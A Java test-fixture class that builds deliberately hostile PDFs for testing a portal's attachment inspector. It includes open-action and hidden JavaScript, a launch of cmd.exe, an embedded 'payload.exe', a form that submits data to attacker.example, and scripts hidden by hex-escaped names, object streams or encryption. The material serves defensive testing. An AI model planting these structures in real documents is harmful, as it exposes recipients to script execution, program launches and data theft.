package vn.congvan.attachment;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/**
 * PDFs that carry something a viewer would run or open: scripts, program launches, embedded files, forms that send
 * data away; and PDFs cut short. Each is a small real document made with PDFBox (or, where PDFBox would not write
 * such a thing, byte by byte), so the inspector is tested against the structures attackers use, not against
 * strings.
 */
public final class HostilePdfs {

    private static final String SCRIPT = "app.alert('x');";

    private HostilePdfs() {}

    /** A catalog whose /OpenAction runs a script as the document opens. */
    public static byte[] openActionJavaScript() {
        return build(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(SCRIPT)));
    }

    /** A document-level script in the catalog's /Names /JavaScript tree. */
    public static byte[] namesJavaScript() {
        return build(document -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript(SCRIPT)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** A page whose additional actions (/AA /O) run a script when the page is shown. */
    public static byte[] pageOpenJavaScript() {
        return build(document -> {
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(new PDActionJavaScript(SCRIPT));
            document.getPage(0).setActions(actions);
        });
    }

    /** A link annotation whose action is a script. */
    public static byte[] linkJavaScript() {
        return build(document -> link(document, new PDActionJavaScript(SCRIPT)));
    }

    /** A link that starts a program. */
    public static byte[] launchAction() {
        return build(document -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("cmd.exe")));
            link(document, launch);
        });
    }

    /** A file in the catalog's /Names /EmbeddedFiles tree. */
    public static byte[] embeddedFile() {
        return build(document -> {
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("payload.exe", fileSpecification(document)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** A file attached to a page through a FileAttachment annotation (no name tree). */
    public static byte[] fileAttachmentAnnotation() {
        return build(document -> {
            PDAnnotationFileAttachment annotation = new PDAnnotationFileAttachment();
            annotation.setRectangle(new PDRectangle(10, 10, 20, 20));
            annotation.setFile(fileSpecification(document));
            annotationsArray(document).add(annotation);
        });
    }

    /** A form with a push button whose widget submits the form to another server. */
    public static byte[] submitFormButton() {
        return build(document -> {
            COSDictionary target = new COSDictionary();
            target.setItem(COSName.FS, COSName.URL);
            target.setString(COSName.F, "https://attacker.example/collect");
            COSDictionary submit = new COSDictionary();
            submit.setItem(COSName.TYPE, COSName.getPDFName("Action"));
            submit.setItem(COSName.S, COSName.getPDFName("SubmitForm"));
            submit.setItem(COSName.F, target);
            COSDictionary button = new COSDictionary();
            button.setItem(COSName.TYPE, COSName.ANNOT);
            button.setItem(COSName.SUBTYPE, COSName.WIDGET);
            button.setItem(COSName.FT, COSName.BTN);
            button.setInt(COSName.FF, 1 << 16);
            button.setString(COSName.T, "send");
            button.setItem(COSName.RECT, new PDRectangle(10, 10, 80, 20).getCOSArray());
            button.setItem(COSName.P, document.getPage(0));
            button.setItem(COSName.A, submit);
            annotationsArray(document).add(button);
            COSArray fields = new COSArray();
            fields.add(button);
            COSDictionary form = new COSDictionary();
            form.setItem(COSName.FIELDS, fields);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
        });
    }

    /** An XFA form (the XML forms architecture, which viewers run with its own scripts and submit rules). */
    public static byte[] xfaForm() {
        return build(document -> {
            PDAcroForm form = new PDAcroForm(document);
            COSStream xfa = document.getDocument().createCOSStream();
            try (var out = xfa.createOutputStream()) {
                out.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>".getBytes(StandardCharsets.UTF_8));
            } catch (IOException ex) {
                throw new UncheckedIOException(ex);
            }
            form.getCOSObject().setItem(COSName.XFA, xfa);
            document.getDocumentCatalog().setAcroForm(form);
        });
    }

    /**
     * A script action in an object that nothing in the document refers to, with its action type spelled with a
     * hex escape ({@code /Java#53cript}). PDFBox writes only what is reachable, so the file is written by hand.
     */
    public static byte[] unreferencedJavaScript() {
        return handWritten(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                "<< /Type /Action /S /Java#53cript /JS (app.alert\\('hidden'\\)) >>");
    }

    /** A plain one-page document with a cross-reference table (not a stream), written by hand like the one above. */
    public static byte[] handWrittenPlain() {
        return handWritten(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>");
    }

    /** The {@link #namesJavaScript()} document with the script's action inside a compressed object stream. */
    public static byte[] javaScriptInObjectStream() {
        return build(
                document -> {
                    PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
                    PDActionJavaScript action = new PDActionJavaScript(SCRIPT);
                    action.getCOSObject().setDirect(false);
                    scripts.setNames(Map.of("init", action));
                    PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                    names.setJavascript(scripts);
                    document.getDocumentCatalog().setNames(names);
                },
                CompressParameters.DEFAULT_COMPRESSION);
    }

    /**
     * A script in a document encrypted with an owner password only: any viewer opens it without asking, and its
     * strings and object streams are encrypted, so nothing of the script is visible in the raw bytes.
     */
    public static byte[] javaScriptInOpenableEncryptedPdf() {
        return build(document -> {
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(SCRIPT));
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", "", new AccessPermission());
            policy.setEncryptionKeyLength(128);
            try {
                document.protect(policy);
            } catch (IOException ex) {
                throw new UncheckedIOException(ex);
            }
        });
    }

    /** An ordinary PDF cut just before its cross-reference (table or stream): PDFBox would repair and accept it. */
    public static byte[] truncatedBeforeCrossReference() {
        byte[] whole = TestFiles.pdf(2);
        Matcher startxref =
                Pattern.compile("startxref\\s+(\\d+)").matcher(new String(whole, StandardCharsets.ISO_8859_1));
        long offset = -1;
        while (startxref.find()) {
            offset = Long.parseLong(startxref.group(1));
        }
        return Arrays.copyOf(whole, (int) offset);
    }

    /** An ordinary PDF whose last bytes ("%%EOF" and some of the trailer) are missing. */
    public static byte[] withoutEndOfFile() {
        byte[] whole = TestFiles.pdf(1);
        return Arrays.copyOf(whole, whole.length - 8);
    }

    /** What the portal accepts: a web link, a link to another page, and a fillable text field that sends nothing. */
    public static byte[] withWebLinkAndForm() {
        return build(document -> {
            document.addPage(new PDPage());
            PDActionURI web = new PDActionURI();
            web.setURI("https://tuyengiao.vn/");
            link(document, web);
            PDActionGoTo next = new PDActionGoTo();
            PDPageFitDestination destination = new PDPageFitDestination();
            destination.setPage(document.getPage(1));
            next.setDestination(destination);
            link(document, next);
            PDAcroForm form = new PDAcroForm(document);
            PDTextField field = new PDTextField(form);
            field.setPartialName("ghiChu");
            form.getFields().add(field);
            document.getDocumentCatalog().setAcroForm(form);
        });
    }

    private static void link(PDDocument document, PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(10, 10, 100, 20));
        link.setAction(action);
        annotationsArray(document).add(link);
    }

    private static COSArray annotationsArray(PDDocument document) {
        COSDictionary page = document.getPage(0).getCOSObject();
        COSArray annotations = page.getCOSArray(COSName.ANNOTS);
        if (annotations == null) {
            annotations = new COSArray();
            page.setItem(COSName.ANNOTS, annotations);
        }
        return annotations;
    }

    private static PDComplexFileSpecification fileSpecification(PDDocument document) {
        try {
            PDEmbeddedFile file = new PDEmbeddedFile(
                    document,
                    new java.io.ByteArrayInputStream("MZ not really a program".getBytes(StandardCharsets.US_ASCII)));
            file.setSubtype("application/octet-stream");
            PDComplexFileSpecification specification = new PDComplexFileSpecification();
            specification.setFile("payload.exe");
            specification.setEmbeddedFile(file);
            return specification;
        } catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
    }

    private static byte[] build(PdfChange change) {
        return build(change, CompressParameters.NO_COMPRESSION);
    }

    private static byte[] build(PdfChange change, CompressParameters compression) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            change.apply(document);
            document.save(out, compression);
            return out.toByteArray();
        } catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
    }

    /** Objects 1..n as given, object 1 the catalog, with a correct cross-reference table. */
    private static byte[] handWritten(String... objects) {
        StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
        long[] offsets = new long[objects.length];
        for (int i = 0; i < objects.length; i++) {
            offsets[i] = pdf.length();
            pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        long xref = pdf.length();
        pdf.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f \n");
        for (long offset : offsets) {
            pdf.append(String.format("%010d 00000 n \n", offset));
        }
        pdf.append("trailer\n<< /Size ")
                .append(objects.length + 1)
                .append(" /Root 1 0 R >>\nstartxref\n")
                .append(xref)
                .append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    @FunctionalInterface
    private interface PdfChange {

        void apply(PDDocument document) throws IOException;
    }
}
